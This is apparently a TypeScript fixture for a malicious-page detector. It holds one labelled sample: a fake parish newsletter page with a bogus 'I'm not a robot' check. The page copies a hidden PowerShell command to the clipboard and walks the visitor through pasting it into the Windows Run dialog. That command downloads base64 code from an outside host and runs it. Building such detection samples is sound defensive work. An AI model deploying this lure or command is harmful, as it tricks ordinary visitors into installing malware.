/**
 * yi- ClickFix pages found on hacked community, parish and hobby sites.
 */
import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { articleCss, doc } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-clickfix-parish-newsletter-human-check',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.stbrigidsparish-kilcullen.ie/newsletter/advent-2025/',
  body: doc({
    title: 'Parish Newsletter – Advent 2025 | St Brigid’s Parish',
    lang: 'en-IE',
    css: articleCss('#6a1b9a', true) + `
#cf{position:fixed;inset:0;background:#fff;z-index:99999;display:flex;align-items:center;justify-content:center;font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif}
#cf .bx{width:420px}.chk{border:1px solid #d9d9d9;background:#fafafa;padding:16px;display:flex;align-items:center;gap:14px;border-radius:3px;cursor:pointer}
.chk span.sq{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:3px;background:#fff}
#steps{display:none;border:1px solid #ccc;padding:16px;margin-top:16px;font-size:15px;line-height:1.7}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
    body: `<header class="site-header"><a class="brand" href="/">St Brigid’s Parish, Kilcullen</a><nav><a href="/">Home</a><a href="/mass-times/">Mass Times</a><a href="/newsletter/">Newsletter</a><a href="/contact/">Contact</a></nav></header>
<main><h1>Parish Newsletter – First Sunday of Advent</h1><p class="meta">Fr. Declan Byrne, PP · Parish office open Tues &amp; Thurs 10am–1pm</p>
<p>The Christmas Mass schedule is now on the noticeboard. The Senior Citizens’ Christmas Party takes place in the Parish Centre on Sunday 14 December at 3pm – transport can be arranged by ringing the parish office.</p>
<p>Lotto: no winner this week. Next week’s jackpot €4,600. Thank you to everyone who supported the St Vincent de Paul church-gate collection, which raised €2,318.</p></main>
<div id="cf"><div class="bx"><h2 style="font-weight:500">www.stbrigidsparish-kilcullen.ie</h2><p>Verify you are human by completing the action below.</p>
<div class="chk" id="chk"><span class="sq"></span><span>I'm not a robot</span><span style="margin-left:auto;font-size:11px;color:#555">reCAPTCHA<br>Privacy - Terms</span></div>
<div id="steps"><b>Verification steps</b><br>1. Press and hold the Windows key <kbd>⊞ Win</kbd> and press <kbd>R</kbd><br>2. In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd> to complete verification</div>
<p style="font-size:12px;color:#666">www.stbrigidsparish-kilcullen.ie needs to review the security of your connection before proceeding.</p></div></div>
<script>
(function(){
var cmd='powershell -w h -nop -c "$u=\\'https://cdn.cloudverify-check.com/v/2.png\\';$d=(iwr $u -UseBasicParsing).Content;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))" # ✅ I am not a robot - reCAPTCHA Verification ID: 7731';
document.getElementById('chk').addEventListener('click',function(){
  var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(e){}t.remove();
  if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});
  this.querySelector('.sq').style.borderColor='#1a73e8';document.getElementById('steps').style.display='block';
});
})();
</script>`,
  }),
},
];
